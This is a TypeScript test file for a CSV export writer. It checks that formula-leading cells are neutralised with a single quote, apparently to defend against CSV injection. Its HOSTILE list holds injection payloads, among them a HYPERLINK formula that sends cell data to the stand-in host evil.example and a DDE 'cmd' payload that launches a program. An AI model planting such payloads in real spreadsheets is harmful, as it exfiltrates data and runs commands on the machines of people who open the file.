import { describe, expect, it } from "vitest";
import { csvCell, csvNumber, neutraliseCsvText, writeCsv } from "./write-csv.ts";

/** Hostile labels from OWASP's CSV injection page and the penetration test (issue 10). */
const HOSTILE = [
  "=1+2",
  '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
  "+33 6 12 34 56 78",
  "-12",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+2",
  "\r=1+2",
];

/** The cells of a CSV line written by writeCsv (quotes removed, `""` unescaped). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^;]*)(;|$)/g;
  for (let m = re.exec(line); m && m[0] !== ""; m = re.exec(line)) {
    const raw = m[1];
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (m[2] === "") break;
  }
  return out;
}

describe("writeCsv (the one CSV writer of the exports)", () => {
  it("neutralises every text starting with = + - @ tab or CR with a single quote", () => {
    for (const label of HOSTILE) {
      expect(neutraliseCsvText(label)).toBe(`'${label}`);
      const cell = cells(csvCell(label).replace(/\r/g, "\\r"))[0].replace(/\\r/g, "\r");
      expect(cell.startsWith("'"), JSON.stringify(label)).toBe(true);
    }
    expect(neutraliseCsvText("École Jaurès")).toBe("École Jaurès");
    expect(neutraliseCsvText("")).toBe("");
    expect(neutraliseCsvText("a=b")).toBe("a=b");
  });

  it("writes a file no cell of which starts with a formula character", () => {
    const csv = writeCsv(
      ["bureau", "nom", "score"],
      HOSTILE.map((label, i) => [`29019_000${i}`, label, csvNumber(i / 3, 1)]),
    );
    expect(csv.startsWith("\uFEFFbureau;nom;score\r\n")).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    // The tab and CR labels are quoted (CR) or kept in the cell (tab), then neutralised.
    expect(csv).toContain(`;"'\r=1+2";`);
    expect(csv).toContain(";'\t=1+2;");
    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1;""clic"")";`);
    const body = csv.slice(1, -2).split(/\r\n(?=29019_)/);
    for (const line of body.slice(1)) {
      for (const c of cells(line)) expect(c, line).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('keeps the numbers it formats as numbers (decimal comma), negatives neutralised, and quotes ; " and line ends', () => {
    expect(csvCell(12.345)).toBe("12,345");
    expect(csvCell(csvNumber(12.345, 1))).toBe("12,3");
    expect(csvCell(csvNumber(-0.00001, 2))).toBe("0,00");
    expect(csvCell(-1.5)).toBe("'-1,5");
    expect(csvCell(csvNumber(-12.345, 1))).toBe("'-12,3");
    expect(csvCell(csvNumber(Number.NaN, 2))).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell('École "Jaurès"; annexe')).toBe('"École ""Jaurès""; annexe"');
    expect(csvCell("deux\nlignes")).toBe('"deux\nlignes"');
  });
});
